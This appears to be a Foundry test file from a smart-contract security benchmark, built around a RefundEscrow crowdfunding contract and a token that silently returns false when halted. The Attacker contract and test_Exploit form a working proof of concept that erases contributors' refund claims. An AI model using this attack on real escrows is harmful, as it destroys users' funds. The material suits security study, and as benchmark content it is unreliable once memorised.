// SPDX-License-Identifier: MIT
pragma solidity 0.7.6;

import "./RefundEscrow.sol";

// assay-canary-0e166e06-a1d2-47d7-9f90-39b83db26b1c

interface Vm {
    function expectRevert(bytes calldata reason) external;
    function expectRevert() external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

// Its maker can halt transfers, which are answered with false then.
contract Token {
    address private maker = msg.sender;
    bool private halted;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    function mint(address to, uint256 amount) external {
        require(msg.sender == maker, "!maker");
        balanceOf[to] += amount;
    }

    function halt(bool on) external {
        require(msg.sender == maker, "!maker");
        halted = on;
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        if (halted || balanceOf[msg.sender] < amount) return false;
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        if (halted || balanceOf[from] < amount || allowance[from][msg.sender] < amount) return false;
        allowance[from][msg.sender] -= amount;
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        return true;
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    address private constant CAT = address(0xCA7);

    Token private token;
    RefundEscrow private escrow;
    Attacker private mallory;

    // A campaign that has failed, and a token that is halted.
    function setUp() public {
        vm.warp(1_600_000_000);
        token = new Token();
        escrow = campaign(10_000e18);
        pay(escrow, ANA, 5_000e18);
        pay(escrow, BEN, 4_000e18);
        mallory = new Attacker(escrow);
        vm.warp(1_600_864_000);
        token.halt(true);
    }

    function campaign(uint256 goal) private returns (RefundEscrow) {
        return new RefundEscrow(IERC20(address(token)), CAT, goal, block.timestamp + 10 days);
    }

    function pay(RefundEscrow to, address who, uint256 amount) private {
        token.mint(who, amount);
        vm.startPrank(who);
        token.approve(address(to), amount);
        to.contribute(amount);
        vm.stopPrank();
    }

    function test_Regular() public {
        token.halt(false);
        require(escrow.failed() && escrow.left() == 9_000e18, "below the goal");
        escrow.refund(ANA);
        require(token.balanceOf(ANA) == 5_000e18 && escrow.paid(ANA) == 0 && escrow.left() == 4_000e18, "refunded");
        address[] memory all = new address[](1);
        all[0] = BEN;
        escrow.refundMany(all);
        require(token.balanceOf(BEN) == 4_000e18 && escrow.left() == 0, "refunded");

        RefundEscrow other = campaign(8_000e18);
        pay(other, ANA, 5_000e18);
        pay(other, BEN, 3_000e18);
        token.mint(address(other), 7e18);
        other.sweep(IERC20(address(token)), 7e18);
        require(token.balanceOf(address(this)) == 7e18, "swept");
        Token stray = new Token();
        stray.mint(address(other), 9e18);
        other.sweep(IERC20(address(stray)), 9e18);
        require(stray.balanceOf(address(this)) == 9e18, "another token");
        vm.warp(block.timestamp + 10 days);
        other.setBeneficiary(BEN);
        vm.prank(BEN);
        require(other.draw() == 8_000e18 && token.balanceOf(BEN) == 12_000e18, "drawn");

        other = campaign(1);
        pay(other, ANA, 5_000e18);
        other.cancel();
        other.refund(ANA);
        require(token.balanceOf(ANA) == 10_000e18, "cancelled");
        other.setGovernance(BEN);
        require(other.governance() == BEN, "handed over");
    }

    function test_RefusesStrangers() public {
        RefundEscrow other = campaign(1);
        vm.startPrank(ANA);
        vm.expectRevert("!governance");
        other.setGovernance(ANA);
        vm.expectRevert("!governance");
        other.setBeneficiary(ANA);
        vm.expectRevert("!governance");
        other.cancel();
        vm.expectRevert("!governance");
        other.sweep(IERC20(address(0)), 1);
        vm.stopPrank();
        vm.warp(block.timestamp + 10 days);
        vm.expectRevert("!beneficiary");
        other.draw();
        vm.expectRevert("!running");
        other.cancel();
        vm.expectRevert("!end");
        new RefundEscrow(IERC20(address(token)), CAT, 1, block.timestamp);
    }

    function test_RefusesContributions() public {
        token.halt(false);
        RefundEscrow other = campaign(1);
        token.mint(ANA, 2);
        vm.startPrank(ANA);
        token.approve(address(other), 2);
        vm.expectRevert("!amount");
        other.contribute(0);
        vm.stopPrank();
        vm.warp(block.timestamp + 10 days);
        vm.prank(ANA);
        vm.expectRevert("!running");
        other.contribute(1);
        other = campaign(1);
        other.cancel();
        vm.prank(ANA);
        vm.expectRevert("!running");
        other.contribute(1);
    }

    function test_RefusesPayments() public {
        vm.prank(CAT);
        vm.expectRevert("!reached");
        escrow.draw();
        vm.expectRevert("!paid");
        escrow.refund(CAT);
        token.halt(false);
        vm.expectRevert("!surplus");
        escrow.sweep(IERC20(address(token)), 1);

        RefundEscrow other = campaign(2);
        pay(other, ANA, 2);
        vm.prank(CAT);
        vm.expectRevert("!reached");
        other.draw();
        vm.warp(block.timestamp + 10 days);
        vm.expectRevert("!failed");
        other.refund(ANA);
        token.halt(true);
        vm.prank(CAT);
        vm.expectRevert();
        other.draw();
        token.halt(false);

        other = campaign(2);
        pay(other, ANA, 2);
        other.cancel();
        vm.warp(block.timestamp + 10 days);
        vm.prank(CAT);
        vm.expectRevert("!reached");
        other.draw();
    }

    // What the contributors have, and have coming.
    function owed() public view returns (uint256) {
        return token.balanceOf(ANA) + escrow.paid(ANA) + token.balanceOf(BEN) + escrow.paid(BEN);
    }

    function exploit() public {
        mallory.run(ANA, BEN);
    }

    function test_Exploit() public {
        exploit();
        require(owed() == 0, "nothing lost");
    }

    function target() public view returns (address) {
        return address(escrow);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    RefundEscrow private escrow;

    constructor(RefundEscrow _escrow) {
        escrow = _escrow;
    }

    function run(address a, address b) external {
        address[] memory all = new address[](2);
        (all[0], all[1]) = (a, b);
        escrow.refundMany(all);
    }
}
